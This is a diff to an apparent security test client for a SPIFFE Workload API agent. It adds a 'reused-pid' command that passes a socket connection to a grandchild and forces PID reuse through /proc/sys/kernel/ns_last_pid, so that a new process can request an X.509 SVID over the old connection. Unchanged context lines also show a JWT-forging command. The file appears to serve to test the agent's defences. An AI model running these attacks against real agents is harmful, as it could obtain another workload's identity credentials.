@@ -7,7 +7,13 @@
 //   RESULT code=<gRPC code name> msg=<text>   the server refused, with its reason
 //
 // Exit status: 0 when a RESULT line was printed, 2 for a usage or local error (never an attack outcome).
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <sys/wait.h>
 #include <unistd.h>
+
+#include <cstdio>
 
 #include <chrono>
 #include <condition_variable>
@@ -462,6 +468,78 @@ int Workload(const Options& o, const std::string& cmd) {
   return PrintStatus(FromGrpc(st));
 }
 
+// A caller whose PID is reused: process C connects to the Workload API and leaves the connection to a child G, C
+// exits, its PID is handed to a new process N (through /proc/sys/kernel/ns_last_pid; root only), and G calls
+// FetchX509SVID over C's connection. The agent recorded C's PID and start time at accept: N's start time differs.
+int ReusedPid(const Options& o) {
+  int result[2], go[2];
+  if (::pipe(result) != 0 || ::pipe(go) != 0) Die("pipe");
+  const pid_t c = ::fork();
+  if (c == 0) {
+    int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_un addr{};
+    addr.sun_family = AF_UNIX;
+    std::snprintf(addr.sun_path, sizeof addr.sun_path, "%s", o.socket.c_str());
+    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) ::_exit(3);
+    std::this_thread::sleep_for(std::chrono::milliseconds(500));  // the agent accepts and records C
+    if (::fork() == 0) {
+      char b;
+      ::close(go[1]);
+      if (::read(go[0], &b, 1) != 1) ::_exit(4);
+      auto stub = SpiffeWorkloadAPI::NewStub(grpc::CreateInsecureChannelFromFd("", fd));
+      grpc::ClientContext ctx;
+      ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(10));
+      ctx.AddMetadata("workload.spiffe.io", "true");
+      auto reader = stub->FetchX509SVID(&ctx, X509SVIDRequest());
+      X509SVIDResponse resp;
+      const bool got = reader->Read(&resp);
+      ctx.TryCancel();
+      grpc::Status st = reader->Finish();
+      std::string line = got ? std::string("RESULT ok id=") + (resp.svids_size() ? resp.svids(0).spiffe_id() : "")
+                             : "RESULT code=" + absl::StatusCodeToString(FromGrpc(st).code()) +
+                                   " msg=" + st.error_message();
+      line += "\n";
+      (void)!::write(result[1], line.data(), line.size());
+      ::_exit(0);
+    }
+    ::_exit(0);
+  }
+  ::close(result[1]);
+  int status = 0;
+  ::waitpid(c, &status, 0);
+  if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) Die("the connecting process failed");
+  pid_t reused = -1;
+  for (int attempt = 0; attempt < 200 && reused < 0; ++attempt) {
+    FILE* f = std::fopen("/proc/sys/kernel/ns_last_pid", "w");
+    if (f == nullptr) Die("cannot write /proc/sys/kernel/ns_last_pid (needs root)");
+    std::fprintf(f, "%d", c - 1);
+    std::fclose(f);
+    const pid_t n = ::fork();
+    if (n == 0) {
+      std::this_thread::sleep_for(std::chrono::seconds(20));
+      ::_exit(0);
+    }
+    if (n == c) {
+      reused = n;
+    } else {
+      ::kill(n, SIGKILL);
+      ::waitpid(n, nullptr, 0);
+    }
+  }
+  if (reused < 0) Die("could not get the PID reused");
+  std::cerr << "attack-client: PID " << c << " now belongs to a new process\n";
+  (void)!::write(go[1], "g", 1);
+  ::close(go[1]);
+  std::string out;
+  char buf[512];
+  for (ssize_t n; (n = ::read(result[0], buf, sizeof buf)) > 0;) out.append(buf, static_cast<size_t>(n));
+  ::kill(reused, SIGKILL);
+  ::waitpid(reused, nullptr, 0);
+  if (out.empty()) Die("the caller reported nothing");
+  std::cout << out << std::flush;
+  return 0;
+}
+
 // JWTs a workload might be handed: alg none, or signed by a key the bundle does not hold (--tamper wrong-kid).
 int ForgeJwt(const Options& o) {
   const int64_t exp = absl::ToUnixSeconds(absl::Now()) + 600;
@@ -518,5 +596,6 @@ int main(int argc, char** argv) {
   if (cmd == "newx509") return NewX509(o);
   if (cmd == "fetch-no-header" || cmd == "validate-jwt") return Workload(o, cmd);
   if (cmd == "forge-jwt") return ForgeJwt(o);
+  if (cmd == "reused-pid") return ReusedPid(o);
   Die("unknown command " + cmd);
 }
